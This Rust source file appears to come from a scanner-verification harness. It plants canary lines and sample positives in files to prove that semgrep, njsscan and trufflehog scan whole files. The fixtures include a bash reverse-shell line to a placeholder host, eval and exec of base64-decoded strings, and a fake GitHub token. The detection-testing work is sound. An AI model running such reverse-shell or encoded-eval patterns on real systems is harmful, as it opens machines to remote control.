//! Lines of our own in the copy, which prove that a tool read a file to its end.

use super::Language;
use skillgate_contract::Provider;
use std::hash::{BuildHasher as _, Hasher as _, RandomState};

/// Empty lines before each text in trufflehog's copy: it drops a text whose first bytes look like
/// an image, a document or a font, and looks no further than this.
pub const LINES_BEFORE: u32 = 4096;

/// How many empty lines stand before a text in a provider's copy.
#[must_use]
pub const fn lines_before(provider: Provider) -> u32 {
    match provider {
        Provider::Trufflehog => LINES_BEFORE,
        Provider::Semgrep | Provider::Njsscan => 0,
    }
}

/// What follows a file's content, which ends in a line end. The empty line in front takes a
/// backslash that would join the content's last line to ours.
#[must_use]
pub fn tail(provider: Provider, language: Language, mark: &str, id: &str) -> String {
    match provider {
        Provider::Semgrep => {
            let code = semgrep_canary(language, id).map(|line| line + "\n").unwrap_or_default();
            format!("\n{code}{}\n", text_canary(language, id))
        }
        Provider::Njsscan if language.is_parsed() => format!("\n{}\n", njsscan_canary(id)),
        Provider::Njsscan if language == Language::Template => {
            format!("\n{}\n", njsscan_template_canary(id))
        }
        Provider::Njsscan => String::new(),
        Provider::Trufflehog => format!("\n{}\n", trufflehog_canary(mark, id)),
    }
}

/// The call that our own semgrep rule reports, in the languages that it parses.
#[must_use]
pub fn semgrep_canary(language: Language, id: &str) -> Option<String> {
    match language {
        Language::JavaScript | Language::TypeScript | Language::Tsx => {
            Some(format!(";__vs_canary(\"{id}\");"))
        }
        Language::Python => Some(format!("__vs_canary(\"{id}\")")),
        Language::Shell => Some(format!("__vs_canary {id}")),
        Language::Markdown | Language::Template | Language::Text => None,
    }
}

/// The line that our own text rule reports, in every language: `__vs_canary_text_f000001`.
#[must_use]
pub fn text_canary(language: Language, id: &str) -> String {
    let word = format!("__vs_canary_text_{id}");
    match language {
        Language::JavaScript | Language::TypeScript | Language::Tsx => format!("// {word}"),
        Language::Python | Language::Shell => format!("# {word}"),
        Language::Markdown | Language::Template => format!("<!-- {word} -->"),
        Language::Text => word,
    }
}

/// The line that a stock rule of njsscan (`buffer_noassert`) reports in JavaScript and TypeScript.
#[must_use]
pub fn njsscan_canary(id: &str) -> String {
    format!(";__vs_{id}.readUInt8(0,true);")
}

/// The line that a stock rule of njsscan (`handlebar_mustache_template`) reports in templates.
#[must_use]
pub fn njsscan_template_canary(id: &str) -> String {
    format!("{{{{{{__vs_{id}}}}}}}")
}

/// The word that a detector of our own reports. It stands behind the content alone, since nobody
/// knew its `mark` when the content was written: who reports it has read the file to its end.
#[must_use]
pub fn trufflehog_canary(mark: &str, id: &str) -> String {
    format!("skillgatecanary-{mark}{id}")
}

/// A mark that no repository can hold: 64 bits of the system's randomness. Its letters are no
/// hexadecimal digits, which detectors would take for a key behind a word such as `token`.
#[must_use]
pub fn mark() -> String {
    // The standard library seeds `RandomState` from the system.
    let word = RandomState::new().build_hasher().finish();
    let halves = word.to_le_bytes().into_iter().flat_map(|byte| [byte & 15, byte >> 4]);
    halves.map(|half| char::from(b'g' + half)).chain(['-']).collect()
}

/// The planted positives of a provider: one file for each language that its tool parses. One that
/// does not come back voids the run.
#[must_use]
pub const fn planted(provider: Provider) -> &'static [Language] {
    match provider {
        Provider::Semgrep => &[
            Language::JavaScript,
            Language::TypeScript,
            Language::Tsx,
            Language::Python,
            Language::Shell,
            Language::Text,
        ],
        Provider::Njsscan => {
            &[Language::JavaScript, Language::TypeScript, Language::Tsx, Language::Template]
        }
        Provider::Trufflehog => &[Language::Text],
    }
}

/// What a planted file holds beside its canary: something that a rule of the pack, or a stock
/// detector, has to report. njsscan's canary is a match of a stock rule already. None of it works,
/// and none of it is ever run; the token is none, and whole nowhere in this file.
#[must_use]
pub const fn planted_content(provider: Provider, language: Language) -> &'static str {
    match (provider, language) {
        (Provider::Semgrep, Language::JavaScript | Language::TypeScript | Language::Tsx) => {
            "eval(Buffer.from(\"cGxhbnRlZA==\", \"base64\").toString());\n"
        }
        (Provider::Semgrep, Language::Python) => {
            "import base64\nexec(base64.b64decode(\"cGxhbnRlZA==\"))\n"
        }
        (Provider::Semgrep, Language::Shell | Language::Text) => {
            "bash -i >& /dev/tcp/planted.example.invalid/4444 0>&1\n"
        }
        (Provider::Trufflehog, _) => {
            concat!("token = gh", "p_x7Qm2LwV9bKd4RtY6nHc1ZsPf8JgUa3EoT5i\n")
        }
        _ => "",
    }
}
